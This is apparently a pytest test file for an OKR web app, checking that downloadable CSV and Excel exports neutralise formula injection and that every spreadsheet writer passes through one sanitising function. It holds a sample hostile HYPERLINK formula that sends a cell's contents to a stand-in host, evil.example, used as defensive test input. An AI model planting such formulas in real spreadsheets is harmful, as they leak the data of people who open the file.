"""Every spreadsheet a user can download opens without running a formula (OWASP's "CSV
injection"): text starting with = + - @, a tab or a carriage return is written with a leading
``'`` by :func:`okrdata.transfer.neutralise_cell`, the one function every CSV and Excel writer of
okrdata, ui and pages goes through. The import side is in ``tests/test_transfer.py``.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from app_fixtures import (  # noqa: F401
    APP,
    clear_streamlit_caches,
    demo_db,
    ok,
    with_db,
)
from source_scan import dotted
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from okrdata import queries as q
from okrdata import search as s
from okrdata import writes as w
from ui.auth import PERSON_KEY

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]


def formulas(text: str) -> list[str]:
    """The cells of a CSV a spreadsheet program would read as formulas (a plain number such as
    -5 is a number, not a formula)."""
    return [c for c in cells(text) if c[:1] in DANGEROUS and not s_number(c)]


def s_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- every writer goes through the one function ------------------------------------------------

WRITER_MODULES = (
    "csv.writer",
    "csv.DictWriter",
    "openpyxl.Workbook",
    "pd.ExcelWriter",
    "pandas.ExcelWriter",
    "xlsxwriter.Workbook",
)
"""Calls that write a spreadsheet cell by cell: allowed in the package okrdata/transfer only, whose
writers neutralise every cell."""
FRAME_WRITERS = ("to_csv", "to_excel")
"""pandas' writers: allowed on a frame passed through ``neutralise_frame`` only."""


def spreadsheet_writers() -> list[tuple[str, int, str, bool]]:
    """(file, line, call, allowed) for every spreadsheet-writing call in okrdata, ui, pages and app.py."""
    files = [
        ROOT / "app.py",
        *sorted((ROOT / "okrdata").rglob("*.py")),
        *sorted((ROOT / "ui").rglob("*.py")),
        *sorted((ROOT / "pages").glob("*.py")),
    ]
    found = []
    for path in files:
        rel = path.relative_to(ROOT).as_posix()
        for node in ast.walk(ast.parse(path.read_text(), rel)):
            if not isinstance(node, ast.Call):
                continue
            name = dotted(node.func)
            if name in WRITER_MODULES:
                found.append((rel, node.lineno, name, rel.startswith("okrdata/transfer/")))
            elif isinstance(node.func, ast.Attribute) and node.func.attr in FRAME_WRITERS:
                receiver = node.func.value
                safe = isinstance(receiver, ast.Call) and dotted(receiver.func).split(".")[-1] == "neutralise_frame"
                found.append((rel, node.lineno, node.func.attr, safe))
    return found


@pytest.mark.slow
def test_every_spreadsheet_writer_neutralises_its_cells():
    writers = spreadsheet_writers()
    assert len(writers) >= 3, "the scan found no writer: it is looking in the wrong place"
    bad = [f"{f}:{line} {call}" for f, line, call, allowed in writers if not allowed]
    assert not bad, (
        "write spreadsheets with okrdata.transfer.to_csv_bytes / to_xlsx_bytes, or pass the frame "
        f"through transfer.neutralise_frame before pandas writes it: {bad}"
    )


# --- the All OKRs page's CSV -------------------------------------------------------------------


def test_the_all_okrs_csv_runs_no_formula(db, org):
    w.update_objective(
        db, org.platform_obj, title=HOSTILE, version=w.version_of(db, "objectives", org.platform_obj), person=w.SYSTEM
    )
    w.update_key_result(
        db,
        org.kr_decrease,
        title="@SUM(1+1)",
        unit_label="-ms",
        version=w.version_of(db, "key_results", org.kr_decrease),
        person=w.SYSTEM,
    )
    text = s.export_csv(s.rows(db, org.cycle))
    assert f"'{HOSTILE}" in cells(text) and "'@SUM(1+1)" in cells(text)
    assert not formulas(text), formulas(text)


# --- the Review page's CSV ---------------------------------------------------------------------


@pytest.fixture
def deferred(monkeypatch) -> dict:
    """The download buttons' files by id, built when asked for (as a click does)."""
    seen: dict = {}
    original = MediaFileManager.add_deferred

    def record(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        file_id = original(self, data_callable, mimetype, coordinates, file_name=file_name, **kwargs)
        seen[file_id] = data_callable
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
    return seen


@pytest.mark.slow
def test_the_review_pages_scores_csv_runs_no_formula(demo_db, deferred):
    def hostile(db):
        cycle = q.default_cycle_id(db)
        unit = int(db.execute("SELECT id FROM units WHERE name = 'Web App'").fetchone()[0])
        w.add_objective(db, cycle, unit, HOSTILE, description="-1+1", person=w.SYSTEM)
        return int(db.execute("SELECT id FROM people WHERE email LIKE 'admin@%'").fetchone()[0])

    admin = with_db(demo_db, hostile)
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state[PERSON_KEY] = admin
    ok(at.switch_page("pages/review.py").run())
    buttons = [b for b in at.get("download_button") if b.proto.label == "Download the scores as CSV"]
    assert len(buttons) == 1
    data = deferred[buttons[0].proto.deferred_file_id]()
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    assert f"'{HOSTILE}" in cells(text)
    assert not formulas(text), formulas(text)
